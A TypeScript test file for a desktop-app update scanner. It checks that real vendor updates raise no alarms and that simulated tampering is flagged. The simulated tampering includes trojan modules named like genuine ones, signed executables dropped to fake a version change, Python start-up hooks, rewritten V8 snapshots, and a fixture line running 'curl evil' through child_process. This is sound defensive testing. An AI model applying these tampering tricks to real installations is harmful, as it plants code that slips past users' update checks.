// Issue 9 generalisation (docs/generalisation-detection.md): real vendor update pairs nobody had tuned the rules on,
// which raised false alarms, and walk-arounds by someone who has read the README. Each pair is pinned in
// test/corpus/real-corpus.json ("apps"), each attack built from real signed binaries, each with the level it must get.
import test from 'ava';
import { copyFileSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { classifyFile } from '../../daemon/inventory/file-class.ts';
import { inspectFile } from '../helpers/inspect.ts';
import { type ScanReport } from '../../daemon/pipeline/scan-app.ts';
import { realAppPath, realCorpusPath } from '../helpers/real-corpus.ts';
import { above, appDir, copyTree, harness, squirrelInstall } from '../helpers/scan.ts';

const loud = (r: ScanReport): string[] => r.findings.filter((f) => above(f.severity)).map((f) => `${f.rule}:${f.severity}${f.path ? `:${f.path}` : ''}`);

async function pair(from: string, to: string): Promise<ScanReport> {
  const h = harness();
  try {
    const root = appDir();
    copyTree(realAppPath(from), root);
    const base = await h.scan('app', root);
    if (loud(base).length) throw new Error(`baseline of ${from} raised ${loud(base).join(', ')}`);
    rmSync(root, { recursive: true });
    copyTree(realAppPath(to), root);
    return await h.scan('app', root);
  } finally {
    await h.close();
  }
}

test('@img/sharp-win32-x64 0.35.4 → 0.35.5: unsigned modules renamed with a version in their names pair as renames, nothing above info', async (t) => {
  const r = await pair('sharp-win-0.35.4', 'sharp-win-0.35.5');
  t.deepEqual(loud(r), []);
  const renames = r.changes.filter((c) => c.renamedFrom).map((c) => `${c.renamedFrom} → ${c.path}`).sort();
  t.deepEqual(renames, ['lib/libvips-cpp-8.18.6.dll → lib/libvips-cpp-8.18.7.dll', 'lib/sharp-win32-x64-0.35.4.node → lib/sharp-win32-x64-0.35.5.node']);
});

test('@img/sharp-win32-x64 0.35.4 → 0.35.5 as Squirrel app-x.y.z folders: a renamed module is compared with the one it replaces in the folder before, not grouped as a new architecture', async (t) => {
  const h = harness();
  try {
    const root = squirrelInstall('sharp-win-0.35.4', 'app-0.35.4');
    await h.scan('sq', root);
    copyTree(realAppPath('sharp-win-0.35.5'), join(root, 'app-0.35.5'));
    const r = await h.scan('sq', root);
    t.is(r.toVersion, '0.35.5');
    t.deepEqual(loud(r), []);
    const c = r.changes.find((x) => x.path === 'app-0.35.5/lib/libvips-cpp-8.18.7.dll');
    t.is(c?.kind, 'changed');
    t.is(c?.before?.path, 'app-0.35.4/lib/libvips-cpp-8.18.6.dll');
  } finally {
    await h.close();
  }
});

test('@img/sharp-darwin-arm64 0.35.4 → 0.35.5: a linker-signed module renamed pairs with the linker-signed one it replaces', async (t) => {
  const r = await pair('sharp-darwin-0.35.4', 'sharp-darwin-0.35.5');
  t.deepEqual(loud(r), []);
  t.true(r.changes.some((c) => c.renamedFrom === 'lib/sharp-darwin-arm64-0.35.4.node' && c.path === 'lib/sharp-darwin-arm64-0.35.5.node'));
});

test('steamworks.js 0.3.2 → 0.4.0: LC_ID_DYLIB 1.0.0 (Xcode\'s default) is no version of its own; more constructors in a module that had some is no new capability', async (t) => {
  const r = await pair('steamworks-0.3.2', 'steamworks-0.4.0');
  t.deepEqual(loud(r), []);
  const dylib = r.changes.find((c) => c.path === 'dist/osx/libsteam_api.dylib');
  t.truthy(dylib, 'the dylib did change');
  t.is(dylib?.after?.ownVersion, undefined);
  const node = r.changes.find((c) => c.path === 'dist/osx/steamworksjs.darwin-arm64.node');
  t.true((node?.after?.constructors ?? 0) > (node?.before?.constructors ?? 0), 'constructors grew');
});

test('@sentry/cli-win32-x64 2.58.6 → 3.0.0: a major release built before the maintenance release it follows is no MODULE_ROLLBACK', async (t) => {
  const r = await pair('sentry-win-2.58.6', 'sentry-win-3.0.0');
  t.deepEqual(loud(r), []);
  const c = r.changes.find((x) => x.path === 'bin/sentry-cli.exe');
  t.true((c?.after?.compiledAt ?? '') < (c?.before?.compiledAt ?? ''), 'the new build is older');
});

test('electron-edge-js 43.0.0 → 44.0.0: a new Electron ABI folder per architecture, linker-signed darwin/arm64 modules included, is one NEW_MODULE_GROUP (medium)', async (t) => {
  const r = await pair('edge-js-43.0.0', 'edge-js-44.0.0');
  t.deepEqual(loud(r), ['NEW_MODULE_GROUP:medium']);
  t.true((r.findings[0]?.evidence.folders as string[]).includes('lib/native/darwin/arm64/44'));
});

// ---- walk-arounds -------------------------------------------------------------------------------------------------

function put(root: string, rel: string, bytes: Uint8Array | string): void {
  mkdirSync(dirname(join(root, rel)), { recursive: true });
  writeFileSync(join(root, rel), bytes);
}

/** "contoso" 2.0.5: Microsoft's signed vsce-sign.exe 2.0.5 as its main executable, an unsigned module, a V8 snapshot, bundled Python. */
function contoso(): string {
  const root = join(appDir(), 'contoso');
  put(root, 'contoso.exe', readFileSync(join(realAppPath('vsce-sign-2.0.5'), 'bin', 'vsce-sign.exe')));
  put(root, 'pty.node', readFileSync(realCorpusPath('pty-node')));
  put(root, 'v8_context_snapshot.bin', Buffer.alloc(4096, 7));
  put(root, 'python/Lib/site.py', 'import os\n');
  return root;
}

test('a genuine newer signed exe of the same publisher dropped beside the main executable cannot take over the app version: the swap with it stays OUT_OF_BAND_CHANGE high', async (t) => {
  const h = harness();
  try {
    const root = contoso();
    const base = await h.scan('contoso', root);
    t.is(base.versionSource, 'version resource of contoso.exe (signed)');
    copyFileSync(join(realAppPath('vsce-sign-2.0.6'), 'bin', 'vsce-sign.exe'), join(root, 'contoso-helper.exe'));
    copyFileSync(realCorpusPath('clipboard'), join(root, 'pty.node'));
    const r = await h.scan('contoso', root);
    t.regex(r.toVersion ?? '', /^2\.0\.5\+/, 'still the main executable\'s 2.0.5, not the dropped 2.0.6');
    t.is(r.versionSource, 'version resource of contoso.exe (signed)');
    t.true(loud(r).includes('OUT_OF_BAND_CHANGE:high:pty.node'), loud(r).join(', '));
  } finally {
    await h.close();
  }
});

test('an Electron V8 heap snapshot rewritten and a Python start-up hook dropped, version unchanged: STEERING_CHANGED high each', async (t) => {
  t.is(classifyFile('v8_context_snapshot.arm64.bin', 'unknown'), 'steering-code');
  t.is(classifyFile('snapshot_blob.bin', 'unknown'), 'steering-code');
  t.is(classifyFile('resources/icudtl.dat', 'unknown'), 'data');
  const h = harness();
  try {
    const root = contoso();
    await h.scan('contoso', root);
    put(root, 'v8_context_snapshot.bin', Buffer.alloc(4096, 9));
    put(root, 'python/Lib/sitecustomize.py', 'import subprocess\n');
    // Attack study, session 6: Electron 30's browser-process snapshot and the embeddable Python's path file were data.
    put(root, 'browser_v8_context_snapshot.bin', Buffer.alloc(4096, 3));
    put(root, 'python/python312._pth', 'python312.zip\n.\nimport site\n');
    const r = await h.scan('contoso', root);
    t.deepEqual(loud(r).sort(), ['STEERING_CHANGED:high:browser_v8_context_snapshot.bin', 'STEERING_CHANGED:high:python/Lib/sitecustomize.py', 'STEERING_CHANGED:high:python/python312._pth', 'STEERING_CHANGED:high:v8_context_snapshot.bin']);
  } finally {
    await h.close();
  }
});

test('Squirrel: two unsigned modules named like the app\'s unsigned module at the top of a new version folder are not "a new architecture folder": NEW_UNSIGNED_MODULE high each', async (t) => {
  const h = harness();
  try {
    const root = squirrelInstall('msal-0.20.6', 'app-0.20.6');
    await h.scan('sq', root);
    copyTree(realAppPath('msal-0.20.7'), join(root, 'app-0.20.7'));
    // msal ships the unsigned dist/windows/x64/msal-node-runtime.node: two trojans named like it, at the folder's top
    copyFileSync(realCorpusPath('clipboard'), join(root, 'app-0.20.7', 'msal-node-runtime_x64.node'));
    copyFileSync(realCorpusPath('pty-node'), join(root, 'app-0.20.7', 'msal-node-runtime-arm64.node'));
    const r = await h.scan('sq', root);
    t.is(r.toVersion, '0.20.7');
    t.false(r.findings.some((f) => f.rule === 'NEW_MODULE_GROUP'), loud(r).join(', '));
    t.true(loud(r).includes('NEW_UNSIGNED_MODULE:high:app-0.20.7/msal-node-runtime_x64.node'), loud(r).join(', '));
    t.true(loud(r).includes('NEW_UNSIGNED_MODULE:high:app-0.20.7/msal-node-runtime-arm64.node'));
  } finally {
    await h.close();
  }
});

test('rename pairing never pairs an unsigned module with a signed one of the same name: a trojan renamed over a removed Microsoft DLL stays NEW_UNSIGNED_MODULE high', async (t) => {
  const h = harness();
  try {
    const root = appDir();
    copyTree(realAppPath('msal-0.20.6'), root);
    await h.scan('app', root);
    copyTree(realAppPath('msal-0.20.7'), root);
    rmSync(join(root, 'dist/windows/x64/msalruntime.dll'));
    copyFileSync(realCorpusPath('clipboard'), join(root, 'dist/windows/x64/msalruntime_x64.dll'));
    const r = await h.scan('app', root);
    t.false(r.changes.some((c) => c.renamedFrom === 'dist/windows/x64/msalruntime.dll'));
    t.true(loud(r).includes('NEW_UNSIGNED_MODULE:high:dist/windows/x64/msalruntime_x64.dll'), loud(r).join(', '));
  } finally {
    await h.close();
  }
});

test('the main executable removed and a genuine newer signed exe dropped under another name: the version "moved" only because another file gives it, so the swap with it is OUT_OF_BAND_CHANGE high', async (t) => {
  const h = harness();
  try {
    const root = contoso();
    await h.scan('contoso', root);
    rmSync(join(root, 'contoso.exe'));
    copyFileSync(join(realAppPath('vsce-sign-2.0.6'), 'bin', 'vsce-sign.exe'), join(root, 'contoso2.exe'));
    copyFileSync(realCorpusPath('clipboard'), join(root, 'pty.node'));
    const r = await h.scan('contoso', root);
    t.regex(r.toVersion ?? '', /^2\.0\.6\+/);
    t.is(r.versionSource, 'version resource of contoso2.exe (signed)');
    t.true(loud(r).includes('OUT_OF_BAND_CHANGE:high:pty.node'), loud(r).join(', '));
    t.true(loud(r).includes('OUT_OF_BAND_CHANGE:high:contoso.exe'), 'the removal of the main executable is no update either');
  } finally {
    await h.close();
  }
});

test('an app versioned by package.json with Microsoft-signed DLLs: a Microsoft-signed exe dropped at the top does not turn a swap into an update', async (t) => {
  const h = harness();
  try {
    const root = appDir();
    copyTree(realAppPath('msal-0.20.6'), root);
    const base = await h.scan('app', root);
    t.is(base.versionSource, 'package.json');
    copyFileSync(realCorpusPath('signtool-x64'), join(root, 'signtool.exe'));
    copyFileSync(realCorpusPath('clipboard'), join(root, 'dist/windows/x64/msal-node-runtime.node'));
    const r = await h.scan('app', root);
    t.is(r.versionSource, 'version resource of signtool.exe (signed)');
    t.true(loud(r).includes('OUT_OF_BAND_CHANGE:high:dist/windows/x64/msal-node-runtime.node'), loud(r).join(', '));
  } finally {
    await h.close();
  }
});

test('a reproducible link (/Brepro: an IMAGE_DEBUG_TYPE_REPRO debug entry) has no build time, so Microsoft\'s runtime DLLs are no TIMESTAMP_ANOMALY', (t) => {
  // hermes-compiler 260318099.0.6 → 0.8 shipped msvcp140.dll "built 2004-07-20", signed 2026: a content hash, not a date.
  t.is(inspectFile(realCorpusPath('signtool-x64')).pe?.compiled_at, undefined, 'signtool.exe 10.0 is linked /Brepro');
  t.is(inspectFile(realCorpusPath('snoretoast')).pe?.compiled_at, '2019-09-09T16:20:52.000Z', 'a conventional link keeps its build time');
});

test('innosetup 6.0.5 → 6.4.1: Certum\'s "Open Source Developer, Martijn Laan" is the Martijn Laan of the 2016 certificate — a certificate rotation, not another signer; nothing critical', async (t) => {
  const r = await pair('innosetup-6.0.5', 'innosetup-6.4.1');
  t.false(r.findings.some((f) => f.severity === 'critical'), loud(r).join(', '));
  const isbzip = r.findings.find((f) => f.path === 'bin/isbzip.dll' && f.rule === 'SIGNER_CHANGED');
  t.is(isbzip?.severity, 'info');
  t.regex(isbzip?.message ?? '', /same signer \(org:Martijn Laan\)/);
  // 6.4.1's certificate expired 2025-04-17 under a Certum TSA root not trusted for time stamping: the same signer,
  // no longer valid at this time — high, as the README says, never critical.
  const islzma = r.findings.find((f) => f.path === 'bin/islzma.dll');
  t.is(`${islzma?.rule}:${islzma?.severity}`, 'SIGNATURE_DOWNGRADED:high');
});

test('an extensionless file beside a module of an unpacked Electron app or a Node package is code: Node loads `helper` before `helper.js` — STEERING_CHANGED high', async (t) => {
  t.is(classifyFile('resources/app/lib/helper', 'unknown'), 'steering-code');
  t.is(classifyFile('resources/app/node_modules/x/index', 'unknown'), 'steering-code');
  t.is(classifyFile('resources/app/node_modules/x/LICENSE', 'unknown'), 'data');
  t.is(classifyFile('resources/app/node_modules/x/.npmignore', 'unknown'), 'data');
  t.is(classifyFile('resources/icudtl', 'unknown'), 'data', 'outside a Node package an extensionless file is data');
  const h = harness();
  try {
    const root = contoso();
    put(root, 'resources/app/main.js', "require('./lib/helper')\n");
    put(root, 'resources/app/lib/helper.js', 'module.exports = 1\n');
    await h.scan('contoso', root);
    put(root, 'resources/app/lib/helper', "require('child_process').exec('curl evil')\n");
    const r = await h.scan('contoso', root);
    t.deepEqual(loud(r), ['STEERING_CHANGED:high:resources/app/lib/helper']);
  } finally {
    await h.close();
  }
});

test('another genuine program of the app\'s own publisher copied in as a module in new "architecture" folders is not grouped: its OriginalFilename says what it is — NEW_MODULE each', async (t) => {
  const h = harness();
  try {
    const root = appDir();
    copyTree(realAppPath('msal-0.20.6'), root);
    await h.scan('app', root);
    copyTree(realAppPath('msal-0.20.7'), root);
    for (const dir of ['ia32', 'x86_64']) {
      mkdirSync(join(root, 'dist/windows', dir), { recursive: true });
      copyFileSync(realCorpusPath('conpty'), join(root, 'dist/windows', dir, 'msalruntime.dll')); // Microsoft-signed, OriginalFilename conpty.dll
    }
    const r = await h.scan('app', root);
    t.false(r.findings.some((f) => f.rule === 'NEW_MODULE_GROUP'), loud(r).join(', '));
    t.true(loud(r).includes('NEW_MODULE:medium:dist/windows/ia32/msalruntime.dll'), loud(r).join(', '));
    t.true(loud(r).includes('NEW_MODULE:medium:dist/windows/x86_64/msalruntime.dll'));
  } finally {
    await h.close();
  }
});
